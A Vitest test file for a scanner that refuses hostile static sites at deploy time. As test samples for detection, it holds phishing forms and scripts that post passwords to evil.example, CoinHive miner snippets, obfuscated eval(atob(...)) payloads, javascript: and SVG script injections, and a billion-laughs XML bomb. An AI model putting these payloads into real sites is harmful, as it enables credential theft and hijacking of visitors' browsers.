import { Readable } from 'node:stream';
import { beforeAll, describe, expect, it } from 'vitest';
import { signUp } from '@/server/auth/accounts';
import { useTestDb, uniqueEmail } from '@/testing/db';
import { benignCorpus, hostileCorpus } from '@/testing/scan-corpus';
import { BlobStore } from './blob-store';
import { decodeInlineFiles, storeInlineFiles, validateManifest } from './files';
import { squeezeSpaces } from './scan/normalize-script';
import {
  maxMatchLength,
  normalizeHost,
  normalizeScript,
  readingOf,
  readings,
  SCAN_VERSION,
  SCAN_WINDOW,
  scanBytes,
  scanSite,
  scanStream,
  scanText,
  windowStarts,
  type ScanStore,
} from './scan';
import rules from './scan-rules.json';

const P = Buffer.from('alert(document.cookie)').toString('base64');

describe('the rules', () => {
  it('every rule id has a hostile corpus page that it refuses', () => {
    const ids = new Set([...Object.keys(rules.rules), ...rules.patterns.map((p) => p.id)]);
    const covered = new Set<string>(hostileCorpus().map((e) => e.rule));
    expect([...ids].filter((id) => !covered.has(id))).toEqual([]);
    expect([...covered].filter((id) => !(id in rules.rules))).toEqual([]);
  });

  it('every pattern is bounded and fits in the overlap of two windows', () => {
    expect(maxMatchLength('a{0,5}b?[xyz](?:cd|e){2}')).toBe(11);
    expect(maxMatchLength('a*')).toBe(Infinity);
    expect(maxMatchLength('(a)\\1')).toBe(Infinity);
    expect(maxMatchLength('x{3,}')).toBe(Infinity);
    // The scan refuses to load an unbounded rule; the overlap covers the longest one.
    expect(SCAN_WINDOW.overlap).toBeGreaterThan(2 * rules.credentials.nearChars);
    expect(SCAN_WINDOW.chars).toBeGreaterThan(8 * SCAN_WINDOW.overlap);
  });
});

describe('reading files as a browser does', () => {
  it('decodes by the BOM (UTF-8, UTF-16 LE and BE), by a declared charset, and UTF-16 without a BOM', () => {
    expect(readings(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('eval(x)', 'utf16le')]))).toEqual(['eval(x)']);
    expect(readings(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('eval(x)', 'utf16le').swap16()]))).toEqual(['eval(x)']);
    expect(readings(Buffer.from('\ufeffeval(x)'))).toEqual(['eval(x)']);
    expect(readings(Buffer.from('<meta charset="iso-2022-jp">Coin\x1b(BHive', 'latin1'))).toContain('<meta charset="iso-2022-jp">CoinHive');
    expect(readings(Buffer.from('<p>hello there, a page in UTF-16 without its BOM</p>', 'utf16le'))).toContain(
      '<p>hello there, a page in UTF-16 without its BOM</p>',
    );
  });

  it('normalizes hosts: case, trailing dot, userinfo, port, percent-escapes, IDN', () => {
    expect(normalizeHost('User:pw@WWW.CoinHive.COM.:8443')).toBe('www.coinhive.com');
    expect(normalizeHost('coin%68ive.com')).toBe('coinhive.com');
    expect(normalizeHost('ｃｏｉｎｈｉｖｅ．ｃｏｍ')).toBe('coinhive.com');
    expect(normalizeHost('bücher.example')).toBe('xn--bcher-kva.example');
  });

  it('joins string literals before matching: +, templates, [..].join, concat, reversed, escapes', () => {
    expect(normalizeScript(`a = "coin" + 'hive' + ".com"`)).toBe(`a="coinhive.com"`);
    expect(normalizeScript('u = `coin${"hive"}.com`')).toBe('u=`coinhive.com`');
    expect(normalizeScript(`x = ['coin', 'hive.com'].join('')`)).toBe(`x="coinhive.com"`);
    expect(normalizeScript(`x = 'coin'.concat('hive', '.com')`)).toBe(`x='coinhive.com'`);
    expect(normalizeScript(`x = "moc.evihnioc".split("").reverse().join("")`)).toBe(`x="coinhive.com"`);
    expect(normalizeScript(`\\u0065val /* c */ (\n\\x61tob(p))`)).toBe('eval(atob(p))');
  });

  it('squeezes white space in one pass exactly as the two replaces it stands for', () => {
    const reference = (t: string) => t.replace(/\s+/g, ' ').replace(/ ?([.[\](),;:=+{}]) ?/g, '$1');
    const texts = [...hostileCorpus(), ...benignCorpus()].flatMap((e) => Object.values(e.files).map((b) => b.toString()));
    // And random mixes of what the rules care about: every kind of white space, punctuation, words.
    const pieces = [' ', '  ', '\t', '\n', '\r\n', '\u00a0', '\u2028', '\u3000', '\ufeff', '\u180e', ...'.[](),;:=+{}', 'a', 'eval', '"x"', '-', '/'];
    let seed = 1;
    const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31);
    for (let i = 0; i < 2000; i++) texts.push(Array.from({ length: next() % 24 }, () => pieces[next() % pieces.length]).join(''));
    expect(texts.filter((t) => squeezeSpaces(t) !== reference(t)).slice(0, 5)).toEqual([]);
  });
});

describe('hostile structure does not cost the scan its time or memory', () => {
  it('expands XML entities within a budget ("billion laughs")', () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
    const svg = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${levels}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`;
    const started = Date.now();
    expect(scanText('laughs.svg', svg)).toBeNull();
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('reads many unclosed comments and quotes in linear time', () => {
    const text = '/* "'.repeat(500_000);
    const started = Date.now();
    expect(scanText('odd.js', text)).toBeNull();
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});

describe('content scanning, rule by rule', () => {
  it.each([
    ['crypto-miner', 'index.html', '<script>var miner = new CoinHive.Anonymous("key"); miner.start();</script>'],
    ['crypto-miner', 'a.js', 'var m = new window["Coin"+"Hive"]["Anonymous"]("k")'],
    ['crypto-miner', 'a.js', 'connect("stratum+tcp://pool.example:3333")'],
    ['blocked-host', 'index.html', '<script async src="https://coinhive.com./lib/x.js"></script>'],
    ['blocked-host', 'a.js', 's.src = "https://" + "coin" + "hive.com/x.js"'],
    ['blocked-host', 'a.css', '@import url(//coin\\68 ive.com/x.css);'],
    ['obfuscated-eval', 'a.js', `eval(atob("${P}"))`],
    ['obfuscated-eval', 'a.js', `(0,eval)(atob("${P}"))`],
    ['obfuscated-eval', 'a.js', `window['eval'](atob("${P}"))`],
    ['obfuscated-eval', 'a.js', `Function(atob("${P}"))()`],
    ['obfuscated-eval', 'a.js', `new Function("return " + atob(p))`],
    ['obfuscated-eval', 'a.js', `setTimeout(atob("${P}"))`],
    ['obfuscated-eval', 'a.js', 'eval( unescape("%61%6c%65%72%74"))'],
    ['obfuscated-eval', 'a.js', 'eval(String.fromCharCode(97,108))'],
    ['obfuscated-eval', 'index.html', '<script>document.write(unescape("%3Cscript"))</script>'],
    ['obfuscated-eval', 'a.js', `eval/* a */(// b\natob("${P}"))`],
    ['meta-refresh-to-script', 'index.html', '<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD4=">'],
    ['meta-refresh-to-script', 'index.html', '<meta content="0;url=javascript:alert(1)" http-equiv=REFRESH>'],
    [
      'credential-form-other-origin',
      'index.html',
      '<form action="https://evil.example/collect" method="post"><input name=u><input type="password" name=p></form>',
    ],
    ['credential-form-other-origin', 'index.html', '<form action="&#104;ttps://evil.example/c"><input type=password name=p>'],
    ['credential-form-other-origin', 'index.html', '<base href="https://evil.example/"><form action="c"><input type=password name=p></form>'],
    [
      'credential-form-other-origin',
      'index.html',
      '<form action="/l"><input type=password name=p><button formaction="https://evil.example/x">Go</button></form>',
    ],
    [
      'credential-script-other-origin',
      'a.js',
      'var p = document.querySelector("input[type=password]").value; fetch("https://evil.example/c", { method: "POST", body: p });',
    ],
    ['svg-script', 'logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['svg-event-handler', 'logo.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="x = atob('${P}')"/>`],
    [
      'svg-javascript-url',
      'logo.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    ],
  ])('catches %s in %s: %s', (rule, path, text) => {
    expect(scanText(path, text)).toMatchObject({ rule, path });
  });

  it.each([
    [
      'a landing page with a CDN script',
      'index.html',
      '<!doctype html><h1>Hello</h1><script src="https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js"></script>',
    ],
    ['a login form to its own site', 'index.html', '<form action="/login" method="post"><input type="password" name="p"></form>'],
    [
      'a login form with an empty action and an off-site <a> link',
      'index.html',
      '<form action=""><input type="password" name="p"></form><a href="https://coinhive.com/">archive</a>',
    ],
    ['an external newsletter form without a password', 'index.html', '<form action="https://newsletter.example/subscribe"><input type="email"></form>'],
    ['a meta refresh to a page', 'index.html', '<meta http-equiv="refresh" content="5; url=/next">'],
    ['a bundle that uses atob and eval separately', 'a.js', 'const s = atob(x); const r = JSON.parse(s); function evaluate(){}; (0,eval)("this")'],
    ['the word CoinHive in prose', 'index.html', '<p>We accept cryptocurrency and CoinHive (coinhive.com) was shut down in 2019.</p>'],
    ['a password toggle that reads the field but sends nothing', 'a.js', 'document.querySelector("input[type=password]").type = "text";'],
    ['an SVG with a plain handler', 'logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><rect onclick="this.classList.toggle(\'on\')"/></svg>'],
    ['a PNG named like a page is not read (images never run)', 'photo.png', `eval(atob("${P}"))`],
  ])('lets %s pass', (_label, path, text) => {
    expect(scanText(path, text)).toBeNull();
  });
});

describe('large files are scanned in overlapping windows, never skipped', () => {
  const filler = (n: number) => 'var item = { id: 1, label: "ordinary code" };\n'.repeat(Math.ceil(n / 46)).slice(0, n);

  it('cuts a 12 MB text into windows that cover all of it, each overlapping the next by the overlap', () => {
    const { chars, overlap } = SCAN_WINDOW;
    const length = 12 * 1024 * 1024;
    const starts = windowStarts(length);
    expect(starts.length).toBe(4);
    expect(starts[0]).toBe(0);
    for (let i = 1; i < starts.length; i++) expect(starts[i]! - starts[i - 1]!).toBe(chars - overlap);
    expect(starts.at(-1)! + chars).toBeGreaterThanOrEqual(length);
    expect(windowStarts(chars)).toEqual([0]);
  });

  it('finds a pattern straddling each window boundary of a 12 MB file', () => {
    const snippet = `\neval(atob("${P}"));\n`;
    const { chars, overlap } = SCAN_WINDOW;
    for (const boundary of [chars, 2 * chars - overlap, 3 * chars - 2 * overlap]) {
      const start = boundary - Math.floor(snippet.length / 2);
      const text = filler(start) + snippet + filler(12 * 1024 * 1024 - start - snippet.length);
      expect(text.length).toBe(12 * 1024 * 1024);
      expect(scanBytes('bundle.js', Buffer.from(text)), `across ${boundary}`).toMatchObject({ rule: 'obfuscated-eval', path: 'bundle.js' });
    }
    expect(scanBytes('bundle.js', Buffer.from(filler(12 * 1024 * 1024)))).toBeNull();
  });

  it('finds a password form at the end of a 12 MB page and a blocked host at the end of a 12 MB stylesheet', () => {
    const page = `<!doctype html><p>${'ordinary text '.repeat(900_000)}</p><form action="https://evil.example/x"><input type="password" name="p">`;
    expect(page.length).toBeGreaterThan(12 * 1024 * 1024);
    expect(scanBytes('index.html', Buffer.from(page))).toMatchObject({ rule: 'credential-form-other-origin' });
    const css = `${'.a { color: red; }\n'.repeat(700_000)}.z { background: url(//authedmine.com/x.png) }`;
    expect(scanBytes('site.css', Buffer.from(css))).toMatchObject({ rule: 'blocked-host' });
  });
});

describe('files larger than a window are read as they stream, never whole', () => {
  /** A blob as a store streams it: a fresh stream of `piece`-byte pieces each time it is opened. */
  const pieces = (bytes: Buffer, piece: number) => async () => {
    const out = [];
    for (let at = 0; at < bytes.length; at += piece) out.push(bytes.subarray(at, at + piece));
    return Readable.from(out);
  };
  const code = (n: number) => 'var item = { id: 1, label: "ordinary code" };\n'.repeat(Math.ceil(n / 46)).slice(0, n);

  it('every file of the corpus, streamed in 7-byte pieces, is judged exactly as when it is read whole', async () => {
    const differences: string[] = [];
    for (const entry of [...hostileCorpus(), ...benignCorpus()])
      for (const [path, bytes] of Object.entries(entry.files)) {
        const whole = scanBytes(path, bytes);
        const streamed = await scanStream(path, pieces(bytes, 7));
        if (JSON.stringify(streamed) !== JSON.stringify(whole))
          differences.push(`${entry.name} ${path}: ${JSON.stringify(whole)} read whole, ${JSON.stringify(streamed)} streamed`);
      }
    expect(differences).toEqual([]);
  }, 120_000);

  it('cuts a stream into the windows of the whole text: a pattern straddling a boundary of a 9 MB bundle is found', async () => {
    const snippet = `\neval(atob("${P}"));\n`;
    const start = SCAN_WINDOW.chars - Math.floor(snippet.length / 2);
    const text = Buffer.from(code(start) + snippet + code(9 * 1024 * 1024 - start - snippet.length));
    expect(await scanStream('bundle.js', pieces(text, 64 * 1024))).toMatchObject({ rule: 'obfuscated-eval', path: 'bundle.js' });
  }, 120_000);

  it('stops reading at the window of the first hit: a 40 MB stream is read for little more than one window', async () => {
    let read = 0;
    const open = async () =>
      Readable.from(
        (function* () {
          yield Buffer.from(`eval(atob("${P}"));\n`);
          const more = Buffer.from(code(64 * 1024));
          for (let i = 0; i < 640; i++) {
            read += more.length;
            yield more;
          }
        })(),
      );
    expect(await scanStream('bundle.js', open)).toMatchObject({ rule: 'obfuscated-eval' });
    expect(read).toBeLessThan(2 * SCAN_WINDOW.chars);
  }, 60_000);

  it('parses a 9 MB page as it streams: a script in its head that sends the password form at its end, and an eval deep inside a 9 MB inline script', async () => {
    const prose = '<p>ordinary words about the product and its many features</p>\n'.repeat(160_000);
    const reader =
      '<script>const f = document.getElementById("signin"); f.addEventListener("submit", () => fetch("https://collect.evil.example/c", { method: "POST", body: new FormData(f) }));</script>';
    const form = '<form id="signin" action="/login"><input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form>';
    const page = Buffer.from(`<!doctype html><html><head>${reader}</head><body>${prose}${form}</body></html>`);
    expect(page.length).toBeGreaterThan(9 * 1024 * 1024);
    expect(await scanStream('index.html', pieces(page, 64 * 1024))).toMatchObject({ rule: 'credential-script-other-origin' });
    // The same page without the sending script passes.
    expect(await scanStream('index.html', pieces(Buffer.from(page.toString().replace(reader, '')), 64 * 1024))).toBeNull();

    const half = 4.5 * 1024 * 1024;
    const script = Buffer.from(`<!doctype html><script>${code(half)}eval(atob("${P}"));\n${code(half)}</script><h1>app</h1>`);
    expect(await scanStream('index.html', pieces(script, 64 * 1024))).toMatchObject({ rule: 'obfuscated-eval' });
  }, 120_000);
});

describe('scanning sites through the blob store', () => {
  const getDb = useTestDb();
  let userId: string;
  beforeAll(async () => {
    userId = (await signUp(await getDb(), { email: uniqueEmail('scan'), password: 'a long enough password' })).id;
  });

  /** The real store, as the scan reads it: the user's files and the passes of their packs. */
  const scanStore = (store: BlobStore): ScanStore => ({ open: (sha) => store.open(userId, sha), ...store.scanMarks(userId) });

  /** The real store, with the blobs it is asked to read counted. */
  function countingStore(store: BlobStore) {
    const read: string[] = [];
    return {
      read,
      open: (sha: string) => (read.push(sha), store.open(userId, sha)),
      notPassedScan: (shas: string[], v: string) => store.notPassedScan(userId, shas, v),
      markScanned: (shas: string[], v: string) => store.markScanned(userId, shas, v),
    };
  }

  async function stored(files: Record<string, Buffer | string>) {
    const inline = Object.fromEntries(Object.entries(files).map(([p, b]) => [p, typeof b === 'string' ? b : { base64: b.toString('base64') }]));
    const { proposed, bytes } = decodeInlineFiles(inline);
    const store = new BlobStore(await getDb());
    await storeInlineFiles(store, userId, bytes);
    return { store, manifest: validateManifest(proposed, 'cloudflare') };
  }

  it.each(hostileCorpus().map((e) => [e.name, e] as const))('refuses the hostile site %s, naming the file and the rule', async (_name, entry) => {
    const { store, manifest } = await stored(entry.files);
    const refusal = scanSite(manifest, scanStore(store));
    await expect(refusal).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    await expect(refusal).rejects.toThrow(`This site can't be deployed: ${entry.file} contains `);
    await expect(refusal).rejects.toThrow(`(rule "${entry.rule}")`);
  });

  it.each(benignCorpus().map((e) => [e.name, e] as const))('accepts the ordinary site %s', async (_name, entry) => {
    const { store, manifest } = await stored(entry.files);
    await expect(scanSite(manifest, scanStore(store))).resolves.toBeUndefined();
  });

  it('the corpus is as large as promised: at least 45 hostile pages and 45 ordinary sites, framework builds among them', () => {
    expect(hostileCorpus().length).toBeGreaterThanOrEqual(45);
    const benign = benignCorpus();
    expect(benign.length).toBeGreaterThanOrEqual(45);
    expect(benign.filter((e) => e.name.startsWith('build: ')).length).toBeGreaterThanOrEqual(10);
    for (const e of benign) expect(Object.keys(e.files), e.name).toContain('index.html');
    for (const e of hostileCorpus()) expect(Object.keys(e.files), e.name).toEqual(expect.arrayContaining(['index.html', e.file]));
  });

  it('reads each file once: a redeploy scans only bytes it has not passed, images are never read, a bad page is never remembered', async () => {
    const pages = {
      'index.html': `<h1>${Math.random()}</h1>`,
      'app.js': `console.log(${Math.random()})`,
      'logo.svg': `<svg xmlns="http://www.w3.org/2000/svg"><title>${Math.random()}</title></svg>`,
      'photo.png': Buffer.from(`not really a png ${Math.random()}`),
    };
    const { store, manifest } = await stored(pages);

    const first = countingStore(store);
    await scanSite(manifest, first);
    expect(first.read.sort()).toEqual([manifest['app.js']!.sha256, manifest['index.html']!.sha256, manifest['logo.svg']!.sha256].sort());

    const changed = await stored({ ...pages, 'index.html': `<h1>changed ${Math.random()}</h1>` });
    const second = countingStore(store);
    await scanSite(changed.manifest, second);
    expect(second.read).toEqual([changed.manifest['index.html']!.sha256]);

    const bad = await stored({ 'index.html': `<script>eval(atob("${Buffer.from(String(Math.random())).toString('base64')}"))</script>` });
    for (let i = 0; i < 2; i++) await expect(scanSite(bad.manifest, scanStore(store))).rejects.toThrow(/obfuscated-eval/);
    expect(await store.notPassedScan(userId, [bad.manifest['index.html']!.sha256], `${SCAN_VERSION}/${readingOf('index.html')}`)).toEqual(
      new Set([bad.manifest['index.html']!.sha256]),
    );
    // Other rules (a new version) scan everything again.
    expect(await store.notPassedScan(userId, [manifest['app.js']!.sha256], 'another-version')).toEqual(new Set([manifest['app.js']!.sha256]));
  });

  it('remembers a pass for the way the file was read: the same bytes under a page name are read again, as a page', async () => {
    const page = hostileCorpus().find((e) => e.file === 'cred-formaction.html')!.files['cred-formaction.html'];
    const phishing = `${String(page)}<!-- ${Math.random()} -->`;
    const asStyles = await stored({ 'index.html': '<h1>hi</h1>', 'theme.css': phishing, 'notes.txt': phishing });
    await scanSite(asStyles.manifest, scanStore(asStyles.store));
    const asPage = await stored({ 'index.html': '<h1>hi</h1>', 'theme.css': phishing, 'login.html': phishing });
    const counting = countingStore(asPage.store);
    await expect(scanSite(asPage.manifest, counting)).rejects.toThrow('login.html contains ');
    expect(counting.read).toEqual([asPage.manifest['login.html']!.sha256]);
  });

  it('scans a 12 MB file stored as one blob (no size is skipped) and remembers it once clean', async () => {
    const big = `${'const row = [1, 2, 3];\n'.repeat(560_000)}new CoinHive.Anonymous("key");`;
    expect(big.length).toBeGreaterThan(12 * 1024 * 1024);
    const bad = await stored({ 'index.html': '<script src="app.js"></script>', 'app.js': big });
    await expect(scanSite(bad.manifest, scanStore(bad.store))).rejects.toThrow('app.js contains a browser crypto-miner (rule "crypto-miner")');

    const clean = await stored({ 'index.html': '<script src="app.js"></script>', 'app.js': big.replace('CoinHive', 'Counter') });
    await scanSite(clean.manifest, scanStore(clean.store));
    const again = countingStore(clean.store);
    await scanSite(clean.manifest, again);
    expect(again.read).toEqual([]);
    // Two 12 MB blobs through the database and two full scans: seconds alone, more on a shared machine.
  }, 120_000);
});
